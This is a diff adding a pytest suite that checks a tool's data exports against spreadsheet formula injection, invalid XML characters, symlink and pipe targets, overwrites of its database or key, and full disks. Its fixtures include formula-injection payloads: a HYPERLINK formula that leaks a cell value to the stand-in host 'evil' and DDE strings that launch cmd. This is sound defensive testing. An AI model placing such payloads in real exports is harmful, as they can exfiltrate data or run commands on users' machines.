@@ -1,0 +1,330 @@
+"""Exports that cannot hurt: no spreadsheet cell starts a formula, whatever the text;
+no character makes a workbook unreadable; an output name that is a link, a pipe, the
+open database or its key, or names another format, is handled or refused; a full disk
+gives one line and nothing else."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import gc
+import os
+import stat
+import sys
+from collections import Counter
+from pathlib import Path
+
+import pytest
+
+from fieldplan import files, progress, tabular
+from fieldplan.cli import main
+from fieldplan.errors import FileError, ValidationError
+from fieldplan.text import clean_text, for_spreadsheet
+
+HYPERLINK = '=HYPERLINK("http://evil/?x="&A2,"Click")'
+#: text that starts a formula in Excel or LibreOffice, one per text column it goes in
+PAYLOADS = {
+    "action": HYPERLINK,
+    "status": "+cmd|' /C calc'!A0",
+    "achievements": "-5 displaced",
+    "challenges": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "next_steps": "\t=1+1",
+    "updated_by": "\uff1d1+1",  # full-width equals sign
+}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+@pytest.fixture(autouse=True)
+def _no_protected_files(monkeypatch) -> None:
+    # each test starts with an empty registry and leaves the process's alone
+    monkeypatch.setattr(files, "_protected", Counter())
+
+
+def run(*argv: str, capsys) -> tuple[int, str, str]:
+    try:
+        code = main(list(argv))
+    except SystemExit as exit_:
+        code = exit_.code
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def _hostile_report(rep) -> None:
+    """One report whose every text field starts a formula, as a bundle from a hostile
+    office (or an older version) can leave it: the import only checks the action part
+    of a report id is not empty."""
+    act = rep.plan().actions_of(level="global")[0].code
+    progress.record_progress(rep, act, "2026-S1", status="on-track", achievements="x")
+    rep.conn.execute(
+        "UPDATE progress SET action = ?, status = ?, achievements = ?, challenges = ?, "
+        "next_steps = ?, updated_by = ?",
+        tuple(PAYLOADS[c] for c in ("action", "status", "achievements", "challenges",
+                                    "next_steps", "updated_by")))
+    rep.conn.commit()
+
+
+# 1. formula injection --------------------------------------------------------------
+
+@pytest.mark.parametrize("fmt", ["csv", "hxl"])
+def test_no_csv_or_hxl_cell_starts_a_formula(hq, tmp_path: Path, fmt) -> None:
+    _hostile_report(hq)
+    out = tmp_path / f"progress.{fmt}"
+    assert tabular.export_table(hq, fmt, out) == 1
+    table = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
+    header, data = table[0], table[2 if fmt == "hxl" else 1:]
+    assert len(data) == 1
+    for column, cell in zip(header, data[0], strict=True):
+        assert not cell.startswith(FORMULA_START), (column, cell)
+    row = dict(zip(header, data[0], strict=True))
+    # the text itself is all there, behind one '
+    assert {c: row[c] for c in PAYLOADS} == {c: "'" + v for c, v in PAYLOADS.items()}
+
+
+def test_no_xlsx_cell_is_a_formula_and_text_is_unchanged(hq, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    _hostile_report(hq)
+    out = tmp_path / "progress.xlsx"
+    assert tabular.export_table(hq, "xlsx", out) == 1
+    ws = load_workbook(out).active
+    header = [c.value for c in ws[1]]
+    cells = dict(zip(header, ws[2], strict=True))
+    assert [c for c in ws.iter_rows() for c in c if c.data_type == "f"] == []
+    # stored as text, exactly as written (no ' in the value), and kept text on editing
+    assert {c: cells[c].value for c in PAYLOADS} == PAYLOADS
+    assert all(cells[c].data_type == "s" and cells[c].quotePrefix for c in PAYLOADS)
+    assert not cells["office"].quotePrefix  # ordinary text stays ordinary
+
+
+def test_harmless_text_is_not_changed(hq, tmp_path: Path) -> None:
+    act = hq.plan().actions_of(level="global")[0].code
+    progress.record_progress(hq, act, "2026-S1", status="on-track",
+                             achievements="5 - 3 = 2, +1 @ HQ", challenges="'quoted'")
+    out = tmp_path / "progress.csv"
+    tabular.export_table(hq, "csv", out)
+    row = next(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
+    assert (row["achievements"], row["challenges"], row["action"]) == (
+        "5 - 3 = 2, +1 @ HQ", "'quoted'", act)
+
+
+# 2. characters XML cannot hold -----------------------------------------------------
+
+def test_clean_text_and_spreadsheets_drop_xml_invalid_characters() -> None:
+    assert clean_text("a\ufffeb\uffffc\ufffdd") == "abc\ufffdd"
+    assert clean_text("\U0010fffe kept") == "\U0010fffe kept"  # valid XML
+    assert for_spreadsheet("a\ufffe\uffffb\x0b\x00c\ud800d\te\nf\rg") == (
+        "abc\ufffdd\te\nf\rg")
+
+
+def test_record_progress_never_stores_ufffe_or_uffff(hq) -> None:
+    act = hq.plan().actions_of(level="global")[0].code
+    progress.record_progress(hq, act, "2026-S1", status="on-track",
+                             achievements="bom\ufffe and \uffff gone")
+    assert progress.get_report(hq, act, "2026-S1").achievements == "bom and  gone"
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv", "hxl"])
+def test_exports_survive_xml_invalid_characters_from_older_data(hq, tmp_path: Path,
+                                                                 monkeypatch, fmt) -> None:
+    act = hq.plan().actions_of(level="global")[0].code
+    progress.record_progress(hq, act, "2026-S1", status="on-track", achievements="x")
+    hq.conn.execute("UPDATE progress SET achievements = ?, challenges = ?",
+                    ("a\ufffeb\uffffc", "ok\x0bbell\x07"))
+    hq.conn.commit()
+    real_rows = tabular.rows
+
+    def with_a_lone_surrogate(*args, **kwargs):
+        data = real_rows(*args, **kwargs)
+        data[0]["next_steps"] = "bad \udcff byte"  # SQLite cannot even store it
+        return data
+
+    monkeypatch.setattr(tabular, "rows", with_a_lone_surrogate)
+    out = tmp_path / f"progress.{fmt}"
+    assert tabular.export_table(hq, fmt, out) == 1
+    if fmt == "xlsx":
+        from openpyxl import load_workbook
+
+        values = [c.value for c in load_workbook(out).active[2]]
+    else:
+        values = next(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()[-1:]))
+    assert {"abc", "okbell", "bad \ufffd byte"} <= set(values)
+
+
+# 3. links, pipes, devices ----------------------------------------------------------
+
+def test_a_symlink_to_a_file_writes_its_target_and_stays(tmp_path: Path) -> None:
+    (tmp_path / "real.csv").write_bytes(b"old")
+    link = tmp_path / "link.csv"
+    link.symlink_to("real.csv")
+    files.write_atomic(link, b"new")
+    assert link.is_symlink() and os.readlink(link) == "real.csv"
+    assert (tmp_path / "real.csv").read_bytes() == b"new"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]
+
+
+def test_a_dangling_symlink_creates_its_target(tmp_path: Path) -> None:
+    (tmp_path / "sub").mkdir()
+    link = tmp_path / "link.csv"
+    link.symlink_to(tmp_path / "sub" / "made.csv")
+    files.write_atomic(link, b"data")
+    assert link.is_symlink() and (tmp_path / "sub" / "made.csv").read_bytes() == b"data"
+
+
+@pytest.mark.parametrize("through_link", [False, True])
+def test_a_pipe_is_refused_and_stays_a_pipe(tmp_path: Path, through_link) -> None:
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    target = fifo
+    if through_link:
+        target = tmp_path / "link.csv"
+        target.symlink_to(fifo)
+    with pytest.raises(FileError) as info:
+        files.write_atomic(target, b"data")
+    assert str(info.value) == (f"cannot write {target}: it is a device, a pipe or a socket, "
+                               "not a file; choose another file")
+    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
+
+
+def test_data_export_through_a_link_keeps_the_link(hq, tmp_path: Path, capsys) -> None:
+    hq.close()
+    link = tmp_path / "latest.csv"
+    link.symlink_to("progress-2026.csv")
+    code, _, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export", "--format",
+                       "csv", "-o", str(link), capsys=capsys)
+    assert (code, err) == (0, "")
+    assert link.is_symlink()
+    assert (tmp_path / "progress-2026.csv").read_text(encoding="utf-8-sig").startswith(
+        "office,")
+
+
+# 4. the open database and its keys -------------------------------------------------
+
+def test_protected_files_and_a_databases_sqlite_files_are_refused(tmp_path: Path) -> None:
+    db = tmp_path / "hq.sqlite3"
+    db.write_bytes(b"SQLite format 3\x00")
+    key = tmp_path / "hq.sqlite3.key"
+    key.write_bytes(b"secret")
+    link = tmp_path / "innocent.csv"
+    link.symlink_to(db)
+    files.protect(db, key)
+    for target in (db, key, link, tmp_path / "hq.sqlite3-wal", tmp_path / "hq.sqlite3-shm",
+                   tmp_path / "hq.sqlite3-journal", tmp_path / "." / "hq.sqlite3"):
+        with pytest.raises(FileError) as info:
+            files.write_atomic(target, b"office,action\n")
+        assert str(info.value) == (f"cannot write {target}: it is fieldplan's own database "
+                                   "or key file; choose another file")
+    assert db.read_bytes() == b"SQLite format 3\x00" and key.read_bytes() == b"secret"
+    assert sorted(p.name for p in tmp_path.iterdir()) == [
+        "hq.sqlite3", "hq.sqlite3.key", "innocent.csv"]
+    # other files beside them are not
+    files.write_atomic(tmp_path / "hq.sqlite3.csv", b"ok")
+    files.write_atomic(tmp_path / "hq.sqlite3-wal.csv", b"ok")
+
+
+def test_protection_is_counted_and_can_be_lifted(tmp_path: Path) -> None:
+    db = tmp_path / "hq.sqlite3"
+    files.protect(db)
+    files.protect(db)  # a second replica open on the same file
+    files.unprotect(db)
+    assert files.is_protected(db) and files.is_protected(str(db) + "-wal")
+    files.unprotect(db)
+    assert not files.is_protected(db)
+    files.write_atomic(db, b"ok")
+    files.unprotect(tmp_path / "never-protected")  # ignored
+
+
+def test_the_key_writer_may_write_protected_key_files(hq) -> None:
+    from fieldplan import minisign
+    from fieldplan.replica import key_path, pending_key_path
+    from fieldplan.sync.keys import rotate_key
+
+    files.protect(hq.path, key_path(hq.path), pending_key_path(hq.path))
+    with pytest.raises(FileError):
+        files.write_atomic(key_path(hq.path), b"")
+    new = rotate_key(hq)  # writes hq.sqlite3.key.new, then moves it in place
+    assert minisign.load_secret_key(key_path(hq.path)).key_id_hex == new.key_id_hex
+
+
+def test_data_export_over_the_database_or_its_key_is_refused(hq, tmp_path: Path,
+                                                             capsys) -> None:
+    from fieldplan.replica import key_path
+
+    hq.close()
+    db = tmp_path / "hq.sqlite3"
+    kpath = key_path(db)
+    key_before, db_before = kpath.read_bytes(), db.read_bytes()
+    files.protect(db, kpath)  # what opening the database registers
+    for target in (kpath, Path(str(db) + "-wal")):
+        code, out, err = run("--db", str(db), "data", "export", "--format", "csv",
+                             "-o", str(target), capsys=capsys)
+        assert (code, out) == (1, "")
+        assert err == (f"fieldplan: error: cannot write {target}: it is fieldplan's own "
+                       "database or key file; choose another file\n")
+    assert kpath.read_bytes() == key_before and db.read_bytes() == db_before
+
+
+# 5. a file name for another format; a full disk ------------------------------------
+
+@pytest.mark.parametrize(("fmt", "name"), [("csv", "x.xlsx"), ("xlsx", "x.CSV"),
+                                           ("csv", "x.hxl"), ("hxl", "x.ods")])
+def test_a_file_name_for_another_format_is_a_usage_error(hq, tmp_path: Path, capsys,
+                                                         fmt, name) -> None:
+    hq.close()
+    out = tmp_path / name
+    code, _, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export", "--format",
+                       fmt, "-o", str(out), capsys=capsys)
+    assert code == 2
+    suffix = Path(name).suffix.lower()
+    assert err.splitlines()[-1] == (
+        f"fieldplan data export: usage error: {out} is named as a {suffix} file but the "
+        f"format is {fmt.upper()}: change the file name or the format")
+    assert not out.exists()
+
+
+@pytest.mark.parametrize(("fmt", "name"), [("hxl", "x.csv"), ("csv", "x.txt"),
+                                           ("xlsx", "x")])
+def test_hxl_fits_a_csv_name_and_other_names_are_free(hq, tmp_path: Path, fmt,
+                                                      name) -> None:
+    assert tabular.export_table(hq, fmt, tmp_path / name) == 0
+    with pytest.raises(ValidationError, match=r"named as a \.xlsx file"):
+        tabular.export_table(hq, "csv", tmp_path / "y.xlsx")  # the core checks too
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_a_full_disk_gives_one_line_and_nothing_else(hq, tmp_path: Path, capsys,
+                                                     monkeypatch, fmt) -> None:
+    act = hq.plan().actions_of(level="global")[0].code
+    progress.record_progress(hq, act, "2026-S1", status="on-track", achievements="x" * 9000)
+    hq.close()
+    real_fdopen = os.fdopen
+
+    class FullDisk:
+        """The temporary file, on a disk with no room left."""
+
+        def __init__(self, f) -> None:
+            self._f = f
+
+        def write(self, data) -> int:
+            raise OSError(errno.ENOSPC, "No space left on device")
+
+        def __getattr__(self, name):
+            return getattr(self._f, name)
+
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *exc) -> None:
+            self._f.close()
+
+    monkeypatch.setattr(files.os, "fdopen", lambda *a, **k: FullDisk(real_fdopen(*a, **k)))
+    unraisable = []
+    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
+    out = tmp_path / f"progress.{fmt}"
+    code, stdout, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export",
+                            "--format", fmt, "-o", str(out), capsys=capsys)
+    gc.collect()
+    assert (code, stdout) == (1, "")
+    assert err == f"fieldplan: error: cannot write {out}: the disk is full\n"
+    assert [(u.exc_type, u.exc_value, u.object) for u in unraisable] == []
+    assert sorted(p.name for p in tmp_path.iterdir() if "progress" in p.name) == []
